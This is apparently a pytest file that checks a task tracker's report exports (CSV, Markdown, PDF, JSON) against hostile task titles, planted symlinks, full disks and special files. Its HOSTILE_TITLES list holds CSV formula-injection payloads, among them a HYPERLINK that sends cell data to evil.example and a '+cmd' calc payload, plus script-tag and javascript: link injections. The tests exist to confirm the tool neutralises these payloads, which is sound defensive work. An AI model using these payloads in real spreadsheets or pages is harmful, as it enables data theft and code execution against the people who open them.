"""Reports never lie about being written, never destroy a good file, never run as code."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest

from tests.conftest import REPO, CliRunner, install_fixture_logs
from tracker.reports.escaping import csv_cell, md_link, md_text

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0 formula",
    "-2+3",
    "@SUM(A1)",
    "\tTAB=1",
    "\rCR",
    '<script>alert("xss")</script> SECRETCOMMIT_title',
    "[click](javascript:alert(1)) and `code` and ![img](x)",
]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home with logs and a data folder with tasks titled by an attacker; made once, copied per test."""
    base = tmp_path_factory.mktemp("hostile")
    (home := base / "home").mkdir()
    install_fixture_logs(home)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CLAUDE_", "CODEX_"))}
    env.update(HOME=str(home), TOKENWORTH_DATA_DIR=str(base / "data"), TZ="UTC")

    def run(*args: str) -> None:
        proc = subprocess.run([sys.executable, "-m", "tracker", *args], capture_output=True, text=True, env=env,
                              cwd=REPO, timeout=120)  # fmt: skip
        assert proc.returncode == 0, proc.stderr

    run("import")
    for title in HOSTILE_TITLES:
        run(
            "task", "add", "--done", "--link", "javascript:alert(1)", "--link", "https://example.com/a_(b)", "--", title
        )
    return base


@pytest.fixture
def hostile(hostile_store: Path, home: Path, data_dir: Path) -> None:
    shutil.copytree(hostile_store / "home", home, dirs_exist_ok=True, symlinks=True)
    shutil.copytree(hostile_store / "data", data_dir)


def _report(cli: CliRunner, fmt: str, out: Path, check_rc: int | None = 0) -> subprocess.CompletedProcess[str]:
    return cli("report", "--format", fmt, "--period", "this-week", "--all-tasks", "--audience", "detailed",
               "--out", str(out), check_rc=check_rc)  # fmt: skip


def test_csv_cells_that_could_be_formulas_are_quoted() -> None:
    assert [csv_cell(t)[:2] for t in HOSTILE_TITLES[:6]] == ["'=", "'+", "'-", "'@", "'\t", "'\r"]
    assert csv_cell("fix: totals") == "fix: totals" and csv_cell(-5) == -5 and csv_cell("") == ""


def test_csv_report_has_no_live_formula(hostile: None, cli: CliRunner, tmp_path: Path) -> None:
    _report(cli, "csv", tmp_path / "r.zip")
    with zipfile.ZipFile(tmp_path / "r.zip") as z:
        rows = list(csv.DictReader(io.StringIO(z.read("tasks.csv").decode())))
    titles = {r["title"] for r in rows}
    assert {"'" + t for t in HOSTILE_TITLES[:4]} <= titles  # (task add strips the tab and CR)
    _report(cli, "csv", tmp_path / "tables")
    for table in ("tasks", "by_model", "by_tool", "summary", "weeks"):
        for row in csv.reader(io.StringIO((tmp_path / "tables" / f"{table}.csv").read_text())):
            assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row), row


def test_markdown_escapes_html_and_links(hostile: None, cli: CliRunner, tmp_path: Path) -> None:
    _report(cli, "md", tmp_path / "r.md")
    md = (tmp_path / "r.md").read_text()
    assert "<script>" not in md and "](javascript:" not in md and "[click](" not in md
    assert "\\<script\\>" in md and "\\[click\\]\\(javascript:alert\\(1\\)\\)" in md and "\\`code\\`" in md
    assert "[example.com/a_\\(b\\)](<https://example.com/a_(b)>)" in md
    assert "javascript:alert\\(1\\)" in md  # the unsafe link is shown as text, not a link


def test_md_helpers() -> None:
    assert md_text("a|b\n<i>[x](y)`z`\\") == "a\\|b \\<i\\>\\[x\\]\\(y\\)\\`z\\`\\\\"
    assert md_link("mailto:me@example.com") == "[me@example.com](<mailto:me@example.com>)"
    assert md_link("javascript:alert(1)") == "javascript:alert\\(1\\)"
    assert md_link("data:text/html,<b>") == "data:text/html,\\<b\\>"
    assert md_link("https://x.example/<a>") == "https://x.example/\\<a\\>"  # no '<' inside <…>


@pytest.mark.parametrize("fmt", ["pdf", "md", "json", "csv"])
def test_a_folder_that_does_not_exist_is_one_line_and_exit_3(
    hostile: None, cli: CliRunner, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / "missing" / ("r.zip" if fmt == "csv" else f"r.{fmt}")
    proc = _report(cli, fmt, out, check_rc=None)
    assert proc.returncode == 3, proc.stderr
    assert proc.stderr == f"tokenworth: cannot write {out}: No such file or directory\n"
    assert proc.stdout == "" and not out.parent.exists()


def test_pdf_to_a_folder_is_refused_without_qt_noise(hostile: None, cli: CliRunner, tmp_path: Path) -> None:
    proc = _report(cli, "pdf", tmp_path, check_rc=None)
    assert proc.returncode == 3 and proc.stderr == f"tokenworth: cannot write {tmp_path}: it is a folder\n"


def test_csv_folder_over_a_file_is_refused(hostile: None, cli: CliRunner, tmp_path: Path) -> None:
    (target := tmp_path / "tables").write_text("keep me")
    proc = _report(cli, "csv", target, check_rc=None)
    assert proc.returncode == 3 and proc.stderr.count("\n") == 1 and "not a folder" in proc.stderr
    assert target.read_text() == "keep me"


def test_csv_export_never_writes_through_a_planted_symlink(hostile: None, cli: CliRunner, tmp_path: Path) -> None:
    (folder := tmp_path / "shared").mkdir()
    (victim := tmp_path / "victim").write_text("precious")
    (folder / "tasks.csv").symlink_to(victim)
    _report(cli, "csv", folder)
    assert victim.read_text() == "precious"
    assert not (folder / "tasks.csv").is_symlink() and "title" in (folder / "tasks.csv").read_text()


FULL_DISK = """
mount -t tmpfs -o size=64k tmpfs "$OUT" || exit 97
printf "last week's good report" > "$OUT/$NAME"
head -c 1M /dev/zero > "$OUT/filler" 2>/dev/null
"$@"
echo $? > "$RESULT/rc"
cp "$OUT/$NAME" "$RESULT/after"
ls -A "$OUT" > "$RESULT/listing"
"""


@pytest.mark.skipif(shutil.which("unshare") is None, reason="needs unshare(1) for a private tmpfs")
@pytest.mark.parametrize("fmt", ["pdf", "md", "json", "csv"])
def test_a_failed_re_export_on_a_full_disk_keeps_the_good_file(
    hostile: None, home: Path, data_dir: Path, tmp_path: Path, fmt: str
) -> None:
    """The output folder is a full 64 KiB tmpfs, mounted in a private mount namespace."""
    name = "r.zip" if fmt == "csv" else f"r.{fmt}"
    (out := tmp_path / "out").mkdir()
    (result := tmp_path / "result").mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CLAUDE_", "CODEX_"))}
    env.update(HOME=str(home), TOKENWORTH_DATA_DIR=str(data_dir), TZ="UTC", OUT=str(out), NAME=name,
               RESULT=str(result))  # fmt: skip
    args = ["report", "--format", fmt, "--period", "this-week", "--all-tasks", "--out", str(out / name)]
    proc = subprocess.run(
        ["unshare", "-rm", "sh", "-c", FULL_DISK, "sh", sys.executable, "-m", "tracker", *args],
        capture_output=True, text=True, env=env, cwd=REPO, timeout=120,
    )  # fmt: skip
    if proc.returncode == 97 or not (result / "rc").exists():
        pytest.skip(f"cannot mount a private tmpfs here: {proc.stderr.strip()}")
    assert (result / "rc").read_text().strip() == "3", proc.stderr
    assert proc.stderr == f"tokenworth: cannot write {out / name}: No space left on device\n"
    assert (result / "after").read_bytes() == b"last week's good report"
    assert (result / "listing").read_text().split() == ["filler", name]  # no temp file left behind


def test_report_files_are_private(hostile: None, cli: CliRunner, tmp_path: Path) -> None:
    for fmt, name in (("pdf", "r.pdf"), ("md", "r.md"), ("json", "r.json"), ("csv", "r.zip")):
        _report(cli, fmt, tmp_path / name)
        assert (tmp_path / name).stat().st_mode & 0o777 == 0o600, fmt
    _report(cli, "csv", tmp_path / "tables")
    assert {(p.stat().st_mode & 0o777) for p in (tmp_path / "tables").iterdir()} == {0o600}


def test_pdf_success_still_says_its_pages(hostile: None, cli: CliRunner, tmp_path: Path) -> None:
    proc = _report(cli, "pdf", tmp_path / "ok.pdf")
    assert (tmp_path / "ok.pdf").read_bytes().startswith(b"%PDF")
    assert "page(s)" in proc.stderr and "QPainter" not in proc.stderr and "propagateSizeHints" not in proc.stderr


def test_a_pipe_or_dev_stdout_is_written_in_place_not_replaced(hostile: None, cli: CliRunner, tmp_path: Path) -> None:
    os.mkfifo(fifo := tmp_path / "pipe")
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    _report(cli, "json", fifo)
    reader.join(timeout=60)
    assert json.loads(got[0])["audience"] == "detailed" and stat.S_ISFIFO(fifo.lstat().st_mode)
    for fmt in ("pdf", "md", "csv"):
        (null_link := tmp_path / f"stdout.{fmt}.zip").symlink_to(os.devnull)  # like /dev/stdout -> /proc/self/fd/1
        proc = _report(cli, fmt, null_link)
        assert proc.stderr.count("page(s)") == (fmt == "pdf") and null_link.is_symlink()
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)


def test_a_socket_or_other_special_file_is_refused(hostile: None, cli: CliRunner, tmp_path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(sock := tmp_path / "s"))
        proc = _report(cli, "md", sock, check_rc=None)
    assert proc.returncode == 3 and proc.stderr == f"tokenworth: cannot write {sock}: it is not a regular file\n"
